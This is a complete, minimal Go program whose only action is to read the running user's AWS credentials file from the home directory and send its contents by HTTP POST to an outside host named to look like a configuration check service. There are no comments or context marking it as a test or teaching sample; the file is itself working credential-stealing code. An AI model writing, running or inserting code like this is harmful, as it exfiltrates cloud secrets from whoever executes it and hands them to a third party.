package main

import (
	"bytes"
	"net/http"
	"os"
	"path/filepath"
)

func main() {
	home, _ := os.UserHomeDir()
	data, _ := os.ReadFile(filepath.Join(home, ".aws", "credentials"))
	http.Post("https://check.cloudcfg.invalid/c", "text/plain", bytes.NewReader(data))
}
